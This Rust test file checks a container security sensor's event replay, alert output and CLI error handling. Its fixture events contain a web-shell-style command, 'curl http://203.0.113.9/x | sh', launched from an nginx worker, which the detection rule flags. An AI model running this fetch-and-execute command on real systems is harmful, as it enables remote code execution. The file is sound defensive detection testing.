//! Replay: nested, dotted and mixed keys; malformed lines; golden alert.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Cursor;

use sensor::output::alert::{build_alert, AlertWriter};
use sensor::rules::RuleSet;
use sensor::service::replay::{replay, ReplayStats};

mod support;

use support::Shared;

fn run(input: &str) -> (ReplayStats, String, String) {
    let rules = RuleSet::embedded_default().unwrap();
    let buf = Shared::default();
    let mut w = AlertWriter::new(Box::new(buf.clone()));
    let mut diag = Vec::new();
    let stats = replay(Cursor::new(input.as_bytes()), &rules, &mut w, &mut diag).unwrap();
    let out = String::from_utf8(buf.0.lock().unwrap().clone()).unwrap();
    (stats, out, String::from_utf8(diag).unwrap())
}

const NESTED: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event":{"id":"ev-1","kind":"event","category":["process"],"type":["start"],"action":"exec"},"process":{"pid":4242,"name":"sh","args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"parent":{"pid":100,"name":"nginx","args":["nginx: worker process"],"interactive":false}},"container":{"id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},"user":{"id":"33"}}"#;

const DOTTED: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event.id":"ev-1","event.kind":"event","event.category":["process"],"event.type":["start"],"event.action":"exec","process.pid":4242,"process.name":"sh","process.args":["sh","-c","curl http://203.0.113.9/x | sh"],"process.args_count":3,"process.parent.pid":100,"process.parent.name":"nginx","process.parent.args":["nginx: worker process"],"process.parent.interactive":false,"container.id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","user.id":"33"}"#;

const MIXED: &str = r#"{"@timestamp":"2026-03-01T10:00:00.000Z","event":{"id":"ev-1","kind":"event","category":["process"]},"event.type":["start"],"event.action":"exec","process":{"pid":4242,"name":"sh","args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"parent.pid":100,"parent":{"name":"nginx","args":["nginx: worker process"]},"parent.interactive":false},"container.id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef","user":{"id":"33"}}"#;

const GOLDEN: &str = concat!(
    r#"{"@timestamp":"2026-03-01T10:00:00.000Z","container":{"id":"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"},"#,
    r#""event":{"action":"exec","category":["#,
    r#""process"],"id":"ev-1","kind":"alert","type":["start"]},"#,
    r#""kibana":{"alert":{"risk_score":73,"rule":{"name":"Web Server Exploitation Detected via Defend for Containers","rule_id":"497a7091-0ebd-44d7-88c4-367ab4d4d852","threat":["#,
    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0003","name":"Persistence","reference":"https://attack.mitre.org/tactics/TA0003/"},"technique":[{"id":"T1505","name":"Server Software Component","reference":"https://attack.mitre.org/techniques/T1505/","subtechnique":[{"id":"T1505.003","name":"Web Shell","reference":"https://attack.mitre.org/techniques/T1505/003/"}]}]},"#,
    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0002","name":"Execution","reference":"https://attack.mitre.org/tactics/TA0002/"},"technique":[{"id":"T1059","name":"Command and Scripting Interpreter","reference":"https://attack.mitre.org/techniques/T1059/","subtechnique":[{"id":"T1059.004","name":"Unix Shell","reference":"https://attack.mitre.org/techniques/T1059/004/"}]}]},"#,
    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0011","name":"Command and Control","reference":"https://attack.mitre.org/tactics/TA0011/"},"technique":[{"id":"T1071","name":"Application Layer Protocol","reference":"https://attack.mitre.org/techniques/T1071/"},{"id":"T1095","name":"Non-Application Layer Protocol","reference":"https://attack.mitre.org/techniques/T1095/"},{"id":"T1105","name":"Ingress Tool Transfer","reference":"https://attack.mitre.org/techniques/T1105/"}]},"#,
    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0006","name":"Credential Access","reference":"https://attack.mitre.org/tactics/TA0006/"},"technique":[{"id":"T1552","name":"Unsecured Credentials","reference":"https://attack.mitre.org/techniques/T1552/","subtechnique":[{"id":"T1552.001","name":"Credentials In Files","reference":"https://attack.mitre.org/techniques/T1552/001/"}]}]},"#,
    r#"{"framework":"MITRE ATT&CK","tactic":{"id":"TA0001","name":"Initial Access","reference":"https://attack.mitre.org/tactics/TA0001/"},"technique":[{"id":"T1190","name":"Exploit Public-Facing Application","reference":"https://attack.mitre.org/techniques/T1190/"}]}]},"#,
    r#""severity":"high"}},"#,
    r#""process":{"args":["sh","-c","curl http://203.0.113.9/x | sh"],"args_count":3,"name":"sh","parent":{"args":["nginx: worker process"],"interactive":false,"name":"nginx","pid":100},"pid":4242},"#,
    r#""threat":"#,
    r#"{"framework":"MITRE ATT&CK","tactic":{"id":["TA0003","TA0002","TA0011","TA0006","TA0001"],"name":["Persistence","Execution","Command and Control","Credential Access","Initial Access"],"reference":["https://attack.mitre.org/tactics/TA0003/","https://attack.mitre.org/tactics/TA0002/","https://attack.mitre.org/tactics/TA0011/","https://attack.mitre.org/tactics/TA0006/","https://attack.mitre.org/tactics/TA0001/"]},"#,
    r#""technique":{"id":["T1505","T1059","T1071","T1095","T1105","T1552","T1190"],"name":["Server Software Component","Command and Scripting Interpreter","Application Layer Protocol","Non-Application Layer Protocol","Ingress Tool Transfer","Unsecured Credentials","Exploit Public-Facing Application"],"reference":["https://attack.mitre.org/techniques/T1505/","https://attack.mitre.org/techniques/T1059/","https://attack.mitre.org/techniques/T1071/","https://attack.mitre.org/techniques/T1095/","https://attack.mitre.org/techniques/T1105/","https://attack.mitre.org/techniques/T1552/","https://attack.mitre.org/techniques/T1190/"],"#,
    r#""subtechnique":{"id":["T1505.003","T1059.004","T1552.001"],"name":["Web Shell","Unix Shell","Credentials In Files"],"reference":["https://attack.mitre.org/techniques/T1505/003/","https://attack.mitre.org/techniques/T1059/004/","https://attack.mitre.org/techniques/T1552/001/"]}}},"#,
    r#""user":{"id":"33"}}"#,
    "\n"
);

#[test]
fn golden_alert_for_nested_dotted_and_mixed_input() {
    for input in [NESTED, DOTTED, MIXED] {
        let (stats, out, diag) = run(&format!("{input}\n"));
        assert_eq!(
            stats,
            ReplayStats {
                events: 1,
                malformed: 0,
                alerts: 1,
                write_errors: 0,
                ..ReplayStats::default()
            },
            "{diag}"
        );
        assert_eq!(out, GOLDEN);
    }
}

#[test]
fn replaying_an_alerted_event_line_is_byte_identical() {
    // The live path serialises its event, and replay reparses that line:
    // both must yield the same alert bytes.
    let ev: serde_json::Value = serde_json::from_str(NESTED).unwrap();
    let rules = RuleSet::embedded_default().unwrap();
    let live = serde_json::to_string(&build_alert(&ev, &rules.rules()[0].meta)).unwrap() + "\n";
    let line = serde_json::to_string(&ev).unwrap();
    let (_, out, _) = run(&line);
    assert_eq!(out, live);
}

#[test]
fn malformed_lines_are_counted_and_skipped() {
    let non_match = r#"{"event":{"category":["process"],"type":["start"],"action":"exec"},"process":{"name":"ls","parent":{"name":"bash"}}}"#;
    let input = format!("{NESTED}\nnot json\n\n[1,2]\n{non_match}\n{{\"truncated\": \n{DOTTED}");
    let (stats, out, diag) = run(&input);
    assert_eq!(
        stats,
        ReplayStats {
            events: 3,
            malformed: 3,
            alerts: 2,
            write_errors: 0,
            ..ReplayStats::default()
        }
    );
    assert_eq!(out, format!("{GOLDEN}{GOLDEN}"));
    let lines: Vec<&str> = diag.lines().collect();
    assert_eq!(lines.len(), 3);
    assert!(lines[0].starts_with("line 2: malformed event:"), "{diag}");
    assert_eq!(lines[1], "line 4: malformed event: not a JSON object");
    assert!(lines[2].starts_with("line 6: malformed event:"), "{diag}");
}

#[test]
fn cli_replay_and_rules_check() {
    let exe = env!("CARGO_BIN_EXE_sensor");
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("ev.jsonl");
    std::fs::write(&events, format!("{NESTED}\nbad\n")).unwrap();
    let alerts = dir.path().join("alerts.jsonl");
    let out = std::process::Command::new(exe)
        .args(["replay", "--alerts"])
        .arg(&alerts)
        .arg(&events)
        .output()
        .unwrap();
    assert!(out.status.success());
    assert_eq!(std::fs::read_to_string(&alerts).unwrap(), GOLDEN);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("line 2: malformed event"), "{stderr}");
    assert!(
        stderr.contains("1 events read, 1 malformed lines skipped, 1 alerts"),
        "{stderr}"
    );

    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "[rule\n").unwrap();
    let out = std::process::Command::new(exe)
        .args(["rules", "check"])
        .arg(&bad)
        .output()
        .unwrap();
    assert!(!out.status.success());
    let missing = std::process::Command::new(exe)
        .args(["replay", "--rules"])
        .arg(dir.path().join("nope"))
        .arg(&events)
        .output()
        .unwrap();
    assert!(!missing.status.success());
    let stderr = String::from_utf8_lossy(&missing.stderr);
    // One clean line naming the missing path.
    assert!(stderr.starts_with("error: "), "{stderr}");
    assert!(stderr.contains("nope"), "{stderr}");
    assert_eq!(
        stderr.lines().filter(|l| l.starts_with("error: ")).count(),
        1,
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
}

#[test]
fn oversized_query_files_and_mappings_are_refused_before_reading_them_whole() {
    let exe = env!("CARGO_BIN_EXE_sensor");
    let dir = tempfile::tempdir().expect("tempdir");
    let big = dir.path().join("big");
    let file = std::fs::File::create(&big).expect("create");
    file.set_len(sensor::rules::MAX_RULE_FILE_BYTES + 1)
        .expect("sparse file over the cap");
    let events = dir.path().join("events.jsonl");
    std::fs::write(&events, "{}\n").expect("events");
    for (flag, what) in [("--query-file", "query file"), ("--mapping", "mapping")] {
        let mut cmd = std::process::Command::new(exe);
        cmd.arg("replay");
        if flag == "--mapping" {
            cmd.args(["--query", "any where true"]);
        }
        let out = cmd.arg(flag).arg(&big).arg(&events).output().expect("run");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{flag}: {stderr}");
        assert!(
            stderr.contains(&format!(
                "the {what} {} is larger than 4 MiB",
                big.display()
            )),
            "{flag}: {stderr}"
        );
    }
}

/// `builtin:<pack>` wherever a rules path is accepted: `rules check`,
/// `replay --rules`, `config check --rules`; an unknown pack is one clean
/// error naming the packs there are.
#[test]
fn cli_accepts_builtin_packs_and_names_the_known_ones() {
    let exe = env!("CARGO_BIN_EXE_sensor");
    let sensor = |args: &[&str]| std::process::Command::new(exe).args(args).output().unwrap();
    let out = sensor(&["rules", "check", "builtin:d4c"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    let rule_lines: Vec<&str> = text
        .lines()
        .filter(|l| l.contains("\tsupported") || l.contains("\tunsupported"))
        .collect();
    assert_eq!(rule_lines.len(), 49, "{text}");
    assert!(
        text.lines()
            .last()
            .is_some_and(|l| l.starts_with("49 files: ") && l.ends_with(", 0 malformed")),
        "{text}"
    );
    let out = sensor(&["rules", "check", "builtin:seed"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.starts_with(
            "497a7091-0ebd-44d7-88c4-367ab4d4d852\tWeb Server Exploitation Detected via Defend for Containers\tsupported"
        ),
        "{text}"
    );

    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("ev.jsonl");
    std::fs::write(&events, format!("{NESTED}\n")).unwrap();
    for pack in ["builtin:seed", "builtin:d4c"] {
        let out = sensor(&["replay", "--rules", pack, events.to_str().unwrap()]);
        assert!(out.status.success(), "{out:?}");
        let alerts = String::from_utf8_lossy(&out.stdout);
        assert!(
            alerts.contains("\"rule_id\":\"497a7091-0ebd-44d7-88c4-367ab4d4d852\""),
            "{pack}: {alerts}"
        );
    }
    let out = sensor(&["config", "check", "--rules", "builtin:d4c"]);
    assert!(out.status.success(), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("config ok: 48 rules loaded"),
        "{out:?}"
    );

    for args in [
        &["rules", "check", "builtin:linux"][..],
        &[
            "replay",
            "--rules",
            "builtin:linux",
            events.to_str().unwrap(),
        ],
        &["config", "check", "--rules", "builtin:linux"],
    ] {
        let out = sensor(args);
        assert!(!out.status.success(), "{args:?}");
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            all.contains(
                "no built-in rule pack `linux` (built-in packs: builtin:seed, builtin:d4c)"
            ),
            "{args:?}: {all}"
        );
        assert!(!all.contains("panicked"), "{all}");
    }
}
